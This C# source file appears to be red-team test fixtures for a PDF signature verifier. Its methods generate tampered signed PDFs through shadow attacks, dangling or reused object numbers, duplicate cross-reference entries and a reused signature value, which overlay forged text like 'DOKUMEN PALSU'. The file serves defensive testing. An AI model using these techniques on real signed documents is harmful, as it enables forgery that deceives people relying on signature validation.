using System.Text;
using DocSign.Pdf;

namespace DocSign.Testing.Attacks;

/// <summary>
/// Attacks on the whitelist of the modification analysis: changes dressed up as an allowed kind of change
/// (document information, XMP metadata, structure tree, an old cross-reference stream), and a reachability
/// walk that can be made to lose sight of the page content. Red-team additions (2026-11).
/// </summary>
public static partial class AttackPdfs
{
    private static readonly byte[] FakeText = Encoding.ASCII.GetBytes("BT /F1 18 Tf 72 760 Td (DOKUMEN PALSU) Tj ET\n");

    /// <summary>
    /// No preparation: after signing, the /Info dictionary (an allowed change) gains a chain of
    /// <paramref name="length"/> new dictionaries whose last one points at the first page, and the page
    /// content stream is rewritten in the same update. A depth-limited depth-first walk that meets the page
    /// first at the end of the chain never sees its content stream, which then looks like an orphan.
    /// </summary>
    public static byte[] PageContentHiddenBehindLongInfoChain(byte[] signed, int length = 511) => Update(signed, (file, w) =>
    {
        var page = file.GetPages()[0];
        var contentRef = (PdfReference)page.Dictionary["Contents"]!;
        w.Set(contentRef, PdfIncrementalWriter.CreateStream(new PdfDictionary(), FakeText, compress: false));
        PdfObject next = page.Reference!;
        for (int i = 0; i < length; i++) next = w.Add(new PdfDictionary().Set("Next", next));
        var infoRef = (PdfReference)file.Trailer["Info"]!;
        w.EditDictionary(infoRef).Set("Chain", next);
    });

    /// <summary>
    /// Shadow preparation (unsigned): the page's /Resources becomes an indirect dictionary that is also the
    /// document's /Info. After signing, <see cref="SharedInfoResourcesFontSwapped"/> changes it "as /Info".
    /// </summary>
    public static byte[] SharedInfoResourcesBase(byte[] pdf) => Update(pdf, (file, w) =>
    {
        var page = file.GetPages()[0];
        var res = ((PdfDictionary)file.Resolve(page.Dictionary["Resources"])).CloneDictionary();
        res.Set("Producer", PdfString.FromText("DocSign.Testing"));
        var shared = w.Add(res);
        w.EditDictionary(page.Reference!).Set("Resources", shared);
        w.SetTrailerEntry("Info", shared);
    });

    /// <summary>The shared /Info + /Resources dictionary's font is swapped after signing.</summary>
    public static byte[] SharedInfoResourcesFontSwapped(byte[] signedShared) => Update(signedShared, (file, w) =>
    {
        var infoRef = (PdfReference)file.Trailer["Info"]!;
        var font = w.Add(new PdfDictionary().Set("Type", new PdfName("Font")).Set("Subtype", new PdfName("Type1")).Set("BaseFont", new PdfName("Courier")));
        w.EditDictionary(infoRef).Set("Font", new PdfDictionary().Set("F1", font));
    });

    /// <summary>Shadow preparation (unsigned): the catalog's /Metadata names the page content stream.</summary>
    public static byte[] SharedMetadataContentBase(byte[] pdf) => Update(pdf, (file, w) =>
    {
        var contentRef = (PdfReference)file.GetPages()[0].Dictionary["Contents"]!;
        w.EditDictionary((PdfReference)file.Trailer["Root"]!).Set("Metadata", contentRef);
    });

    /// <summary>Shadow preparation (unsigned): a structure tree whose root also names the page content stream.</summary>
    public static byte[] SharedStructContentBase(byte[] pdf) => Update(pdf, (file, w) =>
    {
        var contentRef = (PdfReference)file.GetPages()[0].Dictionary["Contents"]!;
        var str = w.Add(new PdfDictionary().Set("Type", new PdfName("StructTreeRoot")).Set("K", new PdfArray()).Set("Alt", contentRef));
        w.EditDictionary((PdfReference)file.Trailer["Root"]!).Set("StructTreeRoot", str);
    });

    /// <summary>The first page's content stream (same object number) is rewritten after signing.</summary>
    public static byte[] PageContentRewritten(byte[] signed) => ContentChangedInLaterRevision(signed);

    /// <summary>
    /// Shadow preparation (unsigned) on <see cref="SamplePdfs.SamplePdfs.XrefStream"/>: the page also draws
    /// object 8, the original revision's cross-reference stream (binary, draws nothing).
    /// </summary>
    public static byte[] OldXrefStreamDrawnBase(byte[] xrefStreamPdf) => Update(xrefStreamPdf, (file, w) =>
    {
        var page = file.GetPages()[0];
        w.EditDictionary(page.Reference!).Set("Contents", new PdfArray(page.Dictionary["Contents"]!, new PdfReference(8)));
    });

    /// <summary>After signing, object 8 (an old cross-reference stream the page draws) becomes a content stream.</summary>
    public static byte[] OldXrefStreamNumberReused(byte[] signed) => Update(signed, (file, w) =>
        w.Set(new PdfReference(8), PdfIncrementalWriter.CreateStream(new PdfDictionary(), FakeText, compress: false)));

    /// <summary>
    /// A last revision whose cross-reference table names the page content object twice: first (what pdf.js,
    /// poppler and qpdf use) at a new forged stream, then again at its signed bytes.
    /// </summary>
    public static byte[] DuplicateXrefEntryInOneSection(byte[] signed)
    {
        using var file = PdfFile.Open(signed);
        var contentRef = (PdfReference)file.GetPages()[0].Dictionary["Contents"]!;
        var signedEntry = file.Latest.GetEntry(contentRef.ObjectNumber)!.Value;
        var prefix = signed[^1] == '\n' ? "" : "\n";
        long objOffset = signed.Length + prefix.Length;
        var obj = $"{contentRef.ObjectNumber} 0 obj\n<</Length {FakeText.Length}>>\nstream\n{Encoding.ASCII.GetString(FakeText)}endstream\nendobj\n";
        long xref = objOffset + obj.Length;
        var t = file.Trailer;
        var sb = new StringBuilder(prefix).Append(obj)
            .Append("xref\n0 1\n0000000000 65535 f \n")
            .Append($"{contentRef.ObjectNumber} 1\n{objOffset:D10} 00000 n \n")
            .Append($"{contentRef.ObjectNumber} 1\n{signedEntry.Offset:D10} 00000 n \n")
            .Append($"trailer\n<< /Size {t.GetInteger("Size")} /Root {t["Root"]} /Prev {file.Revisions[^1].XrefOffset}");
        if (t["Info"] is { } info) sb.Append(" /Info ").Append(info);
        sb.Append($" >>\nstartxref\n{xref}\n%%EOF\n");
        return signed.Concat(Encoding.ASCII.GetBytes(sb.ToString())).ToArray();
    }

    /// <summary>Object number used by <see cref="DanglingReferenceBase"/>: far above anything a signer allocates.</summary>
    public const int DanglingObject = 900;

    /// <summary>Shadow preparation (unsigned): the page also draws object 900, which does not exist (drawn as nothing).</summary>
    public static byte[] DanglingReferenceBase(byte[] pdf) => Update(pdf, (file, w) =>
    {
        var page = file.GetPages()[0];
        w.EditDictionary(page.Reference!).Set("Contents", new PdfArray(page.Dictionary["Contents"]!, new PdfReference(DanglingObject)));
    });

    /// <summary>After signing, the object the page already referred to is defined with other text. No signed object changes.</summary>
    public static byte[] DanglingReferenceFilled(byte[] signed) => Update(signed, (file, w) =>
        w.Set(new PdfReference(DanglingObject), PdfIncrementalWriter.CreateStream(new PdfDictionary(), FakeText, compress: false)));

    /// <summary>
    /// Shadow "hide" preparation (unsigned): the page text is optional content (an OCG, shown), and the
    /// default configuration /D of /OCProperties is the same dictionary as the document's /Info.
    /// </summary>
    public static byte[] OptionalContentConfigIsInfoBase(byte[] pdf) => Update(pdf, (file, w) =>
    {
        var page = file.GetPages()[0];
        var ocg = w.Add(new PdfDictionary().Set("Type", new PdfName("OCG")).Set("Name", PdfString.FromText("Isi")));
        var infoRef = (PdfReference)file.Trailer["Info"]!;
        var info = w.EditDictionary(infoRef);
        info.Set("Order", new PdfArray(ocg)).Set("OFF", new PdfArray());
        w.EditDictionary((PdfReference)file.Trailer["Root"]!).Set("OCProperties", new PdfDictionary().Set("OCGs", new PdfArray(ocg)).Set("D", infoRef));
        var res = ((PdfDictionary)file.Resolve(page.Dictionary["Resources"])).CloneDictionary();
        res.Set("Properties", new PdfDictionary().Set("oc1", ocg));
        var content = w.AddStream(new PdfDictionary(), Encoding.ASCII.GetBytes("/OC /oc1 BDC BT /F1 18 Tf 72 700 Td (DISETUJUI TANPA CATATAN) Tj ET EMC\n"), compress: false);
        var pd = w.EditDictionary(page.Reference!);
        pd.Set("Resources", res).Set("Contents", new PdfArray(page.Dictionary["Contents"]!, content));
    });

    /// <summary>After signing, the /Info dictionary (also the optional content configuration) turns the OCG off.</summary>
    public static byte[] OptionalContentHiddenThroughInfo(byte[] signed) => Update(signed, (file, w) =>
    {
        var info = w.EditDictionary((PdfReference)file.Trailer["Info"]!);
        info.Set("OFF", new PdfArray(((PdfArray)file.Resolve(info["Order"]))[0]));
    });

    /// <summary>
    /// A second signature field, added after signing, whose value is the FIRST signature's dictionary (so no new
    /// signature needs to verify) and whose widget paints a visible appearance over the page text.
    /// </summary>
    public static byte[] SecondFieldReusingTheSignatureValue(byte[] signed) => Update(signed, (file, w) =>
    {
        var page = file.GetPages()[0];
        var cat = (PdfDictionary)file.Resolve(file.Trailer["Root"]);
        var acroObj = cat["AcroForm"];
        var acroDict = (PdfDictionary)file.Resolve(acroObj);
        var first = (PdfDictionary)file.Resolve(((PdfArray)file.Resolve(acroDict["Fields"]))[0]);
        var ap = w.Add(PdfIncrementalWriter.CreateStream(new PdfDictionary()
            .Set("Type", new PdfName("XObject")).Set("Subtype", new PdfName("Form")).Set("BBox", PdfArray.OfNumbers(0, 0, 500, 60)),
            Encoding.ASCII.GetBytes("1 1 1 rg 0 0 500 60 re f BT /Helv 24 Tf 0 g 10 20 Td (DOKUMEN PALSU) Tj ET\n"), compress: false));
        var widget = w.Add(new PdfDictionary()
            .Set("Type", new PdfName("Annot")).Set("Subtype", new PdfName("Widget")).Set("FT", new PdfName("Sig"))
            .Set("T", PdfString.FromText("Salinan")).Set("V", first["V"]!).Set("F", new PdfInteger(4))
            .Set("Rect", PdfArray.OfNumbers(60, 740, 560, 800)).Set("AP", new PdfDictionary().Set("N", ap)).Set("P", page.Reference!));
        AddAnnot(file, w, page, widget);
        var acro = acroObj is PdfReference ar ? w.EditDictionary(ar) : acroDict.CloneDictionary();
        var fields = (PdfArray)((PdfArray)file.Resolve(acro["Fields"])).Clone();
        fields.Add(widget);
        acro.Set("Fields", fields);
        if (acroObj is not PdfReference) w.EditDictionary((PdfReference)file.Trailer["Root"]!).Set("AcroForm", acro);
    });

    /// <summary>The appearance stream of the (visible) first signature's widget is redrawn in place after signing.</summary>
    public static byte[] SignatureAppearanceRedrawn(byte[] signed) => Update(signed, (file, w) =>
    {
        var cat = (PdfDictionary)file.Resolve(file.Trailer["Root"]);
        var acro = (PdfDictionary)file.Resolve(cat["AcroForm"]);
        var field = (PdfDictionary)file.Resolve(((PdfArray)file.Resolve(acro["Fields"]))[0]);
        var apRef = (PdfReference)((PdfDictionary)file.Resolve(field["AP"]))["N"]!;
        var old = (PdfStream)file.Resolve(apRef);
        w.Set(apRef, PdfIncrementalWriter.CreateStream(old.Dictionary.CloneDictionary(), Encoding.ASCII.GetBytes("1 0 0 rg 0 0 200 50 re f BT /Helv 12 Tf 0 g 5 20 Td (DIBATALKAN) Tj ET\n"), compress: false));
    });
}

/// <summary>Attacks through an empty (prepared) signature field.</summary>
public static class EmptySignatureFieldAttacks
{
    /// <summary>Unsigned: adds a visible empty signature field "TTD Sekcam" with a blank appearance over the page text
    /// (or, with <paramref name="overText"/> false, below it where the page is blank, as a template places it).</summary>
    public static byte[] WithEmptyVisibleField(byte[] pdf, bool overText = true) => AttackPdfs.Update(pdf, (file, w) =>
    {
        var page = file.GetPages()[0];
        var ap = w.AddStream(new PdfDictionary().Set("Type", new PdfName("XObject")).Set("Subtype", new PdfName("Form")).Set("BBox", PdfArray.OfNumbers(0, 0, 500, 60)), [], compress: false);
        var widget = w.Add(new PdfDictionary()
            .Set("Type", new PdfName("Annot")).Set("Subtype", new PdfName("Widget")).Set("FT", new PdfName("Sig"))
            .Set("T", PdfString.FromText("TTD Sekcam")).Set("F", new PdfInteger(4))
            .Set("Rect", overText ? PdfArray.OfNumbers(60, 740, 560, 800) : PdfArray.OfNumbers(60, 560, 560, 620)).Set("AP", new PdfDictionary().Set("N", ap)).Set("P", page.Reference!));
        w.EditDictionary(page.Reference!).Set("Annots", new PdfArray(widget));
        w.EditDictionary((PdfReference)file.Trailer["Root"]!).Set("AcroForm", w.Add(new PdfDictionary().Set("Fields", new PdfArray(widget))));
    });

    private static (PdfReference Field, PdfDictionary Dict) EmptyField(PdfFile file)
    {
        var acro = (PdfDictionary)file.Resolve(((PdfDictionary)file.Resolve(file.Trailer["Root"]))["AcroForm"]);
        foreach (var f in ((PdfArray)file.Resolve(acro["Fields"])).OfType<PdfReference>())
            if (file.Resolve(f) is PdfDictionary d && d["V"] is null) return (f, d);
        throw new InvalidOperationException("no empty field");
    }

    /// <summary>After signing another field, the empty field's appearance stream is redrawn in place with text; it stays unsigned.</summary>
    public static byte[] EmptyFieldAppearanceRedrawn(byte[] signed) => AttackPdfs.Update(signed, (file, w) =>
    {
        var (_, d) = EmptyField(file);
        var apRef = (PdfReference)((PdfDictionary)file.Resolve(d["AP"]))["N"]!;
        var old = (PdfStream)file.Resolve(apRef);
        w.Set(apRef, PdfIncrementalWriter.CreateStream(old.Dictionary.CloneDictionary(), Encoding.ASCII.GetBytes("1 1 1 rg 0 0 500 60 re f BT /Helv 24 Tf 0 g 10 20 Td (DOKUMEN PALSU) Tj ET\n"), compress: false));
    });

    /// <summary>After signing another field, the empty field is "signed" with the existing signature's /V and a new appearance.</summary>
    public static byte[] EmptyFieldGivenExistingValue(byte[] signed) => AttackPdfs.Update(signed, (file, w) =>
    {
        var (fieldRef, _) = EmptyField(file);
        var acro = (PdfDictionary)file.Resolve(((PdfDictionary)file.Resolve(file.Trailer["Root"]))["AcroForm"]);
        var signedField = ((PdfArray)file.Resolve(acro["Fields"])).OfType<PdfReference>().Select(r => (PdfDictionary)file.Resolve(r)).First(d => d["V"] is not null);
        var ap = w.AddStream(new PdfDictionary().Set("Type", new PdfName("XObject")).Set("Subtype", new PdfName("Form")).Set("BBox", PdfArray.OfNumbers(0, 0, 500, 60)),
            Encoding.ASCII.GetBytes("1 1 1 rg 0 0 500 60 re f BT /Helv 24 Tf 0 g 10 20 Td (DOKUMEN PALSU) Tj ET\n"), compress: false);
        w.EditDictionary(fieldRef).Set("V", signedField["V"]!).Set("AP", new PdfDictionary().Set("N", ap));
    });
}

/// <summary>Cross-reference stream variants of the duplicate-entry attack.</summary>
public static class XrefStreamAttacks
{
    /// <summary>
    /// A last revision with an uncompressed cross-reference stream whose /Index names the page content object in two
    /// ranges: first the forged stream, then the signed bytes again.
    /// </summary>
    public static byte[] OverlappingIndexRanges(byte[] signed)
    {
        using var file = PdfFile.Open(signed);
        var contentRef = (PdfReference)file.GetPages()[0].Dictionary["Contents"]!;
        var signedEntry = file.Latest.GetEntry(contentRef.ObjectNumber)!.Value;
        var fake = "BT /F1 18 Tf 72 760 Td (DOKUMEN PALSU) Tj ET\n";
        var prefix = signed[^1] == '\n' ? "" : "\n";
        long objOffset = signed.Length + prefix.Length;
        var obj = $"{contentRef.ObjectNumber} 0 obj\n<</Length {fake.Length}>>\nstream\n{fake}endstream\nendobj\n";
        long xrefOffset = objOffset + obj.Length;
        int size = (int)file.Trailer.GetInteger("Size")!.Value + 1;
        int xrefNum = size - 1;
        var rows = new List<byte>();
        void Row(int type, long f2, int f3) { rows.Add((byte)type); for (int i = 3; i >= 0; i--) rows.Add((byte)(f2 >> (8 * i))); rows.Add((byte)(f3 >> 8)); rows.Add((byte)f3); }
        Row(1, objOffset, 0);          // object N: the forged stream (first: what viewers keep)
        Row(1, signedEntry.Offset, 0); // object N again: its signed bytes
        Row(1, xrefOffset, 0);         // the xref stream itself
        var t = file.Trailer;
        var head = $"{xrefNum} 0 obj\n<</Type /XRef /Size {size} /W [1 4 2] /Index [{contentRef.ObjectNumber} 1 {contentRef.ObjectNumber} 1 {xrefNum} 1] /Root {t["Root"]} /Prev {file.Revisions[^1].XrefOffset}"
            + (t["Info"] is { } info ? $" /Info {info}" : "") + $" /Length {rows.Count}>>\nstream\n";
        var bytes = new List<byte>(signed);
        bytes.AddRange(Encoding.ASCII.GetBytes(prefix + obj + head));
        bytes.AddRange(rows);
        bytes.AddRange(Encoding.ASCII.GetBytes($"\nendstream\nendobj\nstartxref\n{xrefOffset}\n%%EOF\n"));
        return bytes.ToArray();
    }
}
